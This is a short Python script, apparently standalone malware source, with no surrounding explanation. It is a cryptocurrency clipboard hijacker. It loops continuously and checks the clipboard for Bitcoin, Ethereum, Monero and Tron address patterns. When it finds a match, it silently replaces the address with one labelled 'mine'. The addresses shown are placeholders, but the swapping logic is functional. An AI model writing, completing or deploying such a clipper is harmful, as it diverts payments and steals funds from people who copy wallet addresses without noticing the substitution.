import re
import time
import pyperclip

SWAP = {
    "btc": (re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"), "bc1q-placeholder-not-an-address"),
    "eth": (re.compile(r"^0x[a-fA-F0-9]{40}$"), "0x-placeholder-not-an-address"),
    "xmr": (re.compile(r"^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$"), "4-placeholder-not-an-address"),
    "trx": (re.compile(r"^T[A-Za-z1-9]{33}$"), "T-placeholder-not-an-address"),
}


def loop():
    last = ""
    while True:
        text = pyperclip.paste()
        if text != last:
            for rx, mine in SWAP.values():
                if rx.match(text.strip()):
                    pyperclip.copy(mine)
            last = text
        time.sleep(0.5)
